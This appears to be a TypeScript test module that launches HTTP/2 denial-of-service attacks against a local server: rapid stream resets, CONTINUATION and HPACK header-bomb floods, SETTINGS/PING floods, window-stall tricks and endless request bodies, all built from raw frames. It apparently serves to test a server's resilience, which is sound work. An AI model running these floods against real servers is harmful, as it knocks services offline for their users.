/** Attacks on HTTP/2, over HTTPS: by a client of Node’s, and by bytes that no client sends. */
import { connect as connectHttp2, constants } from 'node:http2';
import { connect as connectTls } from 'node:tls';
import { frame, headersOf, headFrame, literal, post, preface } from './http2-frames.ts';
import type { Target } from './target.ts';

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const numbers = (count: number) => Array.from({ length: count }, (_, i) => i);
/** Of the i-th request of a connection. */
const streamOf = (i: number) => 2 * i + 1;
const word = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

async function http2Streams(target: Target, each: (session: ReturnType<typeof connectHttp2>) => Promise<void>) {
  const session = connectHttp2(`https://127.0.0.1:${target.httpsPort}`, { rejectUnauthorized: false });
  session.on('error', () => {});
  await Promise.race([each(session), pause(3000)]);
  session.destroy();
}

/** @param shows the certificate of a client of the API */
export async function rawHttp2(
  target: Pick<Target, 'httpsPort'>,
  frames: readonly Uint8Array[],
  ms = 1500,
  shows: { readonly cert?: string; readonly key?: string } = {},
): Promise<void> {
  const options = { port: target.httpsPort, host: '127.0.0.1', rejectUnauthorized: false, ALPNProtocols: ['h2'] };
  const socket = connectTls({ ...options, ...shows }).on('error', () => {});
  socket.resume();
  socket.write(Buffer.concat([preface, frame(4, 0, 0), ...frames]));
  await pause(ms);
  socket.destroy();
}

/** Frames of many kinds that cost a client nothing; the same for whoever speaks HTTP/2. */
export const floods: Readonly<Record<string, (head: Buffer) => readonly Uint8Array[]>> = {
  'a head without end': (head) => [
    headFrame(1, head, 0),
    ...numbers(400).map(() => frame(9, 0, 1, Buffer.alloc(16_000, 0x40))),
  ],
  'a head of nothing, without end': (head) => [headFrame(1, head, 0), ...numbers(20_000).map(() => frame(9, 0, 1))],
  'a head that says one long header again and again': (head) => {
    // Kept in the table under index 62, and then named by one byte each.
    const long = Buffer.concat([Buffer.from([0x40]), literal('x', 'v'.repeat(3900)).subarray(1)]);
    const again = Buffer.alloc(15_000, 0xbe);
    return numbers(50).map((i) => headFrame(streamOf(i), Buffer.concat([head, ...(i === 0 ? [long] : []), again])));
  },
  'settings and pings': () => [
    ...numbers(5000).map(() => frame(6, 0, 0, Buffer.alloc(8))),
    ...numbers(5000).map(() => frame(4, 0, 0)),
  ],
  'windows that open and close': (head) => [
    ...numbers(90).map((i) => headFrame(streamOf(i), head)),
    ...numbers(5000).flatMap((i) => [frame(4, 0, 0, Buffer.concat([Buffer.from([0, 4]), word(i % 2)]))]),
    ...numbers(20_000).map((i) => frame(8, 0, streamOf(i % 90), word(1))),
  ],
  'requests taken back, with every reason': (head) =>
    numbers(6000).flatMap((i) => [headFrame(streamOf(i), head), frame(3, 0, streamOf(i), word(i % 14))]),
  'requests that the server has to take back': (head) =>
    // A window that grows by nothing is the client's fault, of which a server tells by a reset.
    numbers(6000).flatMap((i) => [headFrame(streamOf(i), head), frame(8, 0, streamOf(i), word(0))]),
  'priorities without end': () => numbers(50_000).map((i) => frame(2, 0, streamOf(i), Buffer.from([0, 0, 0, 0, 7]))),
  'empty pieces of a body': (head) => [headFrame(1, head, 4), ...numbers(50_000).map(() => frame(0, 0, 1))],
  'bodies that never end': (head) => [
    ...numbers(100).map((i) => headFrame(streamOf(i), head, 4)),
    ...numbers(100).map((i) => frame(0, 0, streamOf(i), Buffer.alloc(500))),
  ],
};

export const http2Attacks: Readonly<Record<string, (target: Target) => Promise<void>>> = {
  'HTTP/2: ask and take back': (target) =>
    http2Streams(target, async (session) => {
      for (let i = 0; i < 3000 && !session.destroyed; i++) {
        const stream = session.request({ ':path': '/assets/big' });
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
        if (i % 100 === 0) await pause(1);
      }
    }),
  'HTTP/2: 100 downloads at once that nobody reads': (target) =>
    http2Streams(target, async (session) => {
      for (let i = 0; i < 100 && !session.destroyed; i++) {
        session.request({ ':path': i % 2 ? '/assets/big' : '/generic?mac=52-54-00-a1-9c-ae' }).on('error', () => {});
      }
      await pause(2000);
    }),
  'HTTP/2: windows that stay shut': async (target) => {
    const shut = frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
    const requests = numbers(100).map((i) => headFrame(streamOf(i), headersOf('/assets/big')));
    await Promise.all(numbers(20).map(() => rawHttp2(target, [shut, ...requests], 2000)));
  },
  ...Object.fromEntries(
    Object.entries(floods).map(([name, frames]) => [
      `HTTP/2: ${name}`,
      async (target: Target) => {
        const head = /bod/.test(name) ? post('/machine/report/m-1_b-1_x') : headersOf('/assets/big');
        await Promise.all(numbers(5).map(() => rawHttp2(target, frames(head))));
      },
    ]),
  ),
};
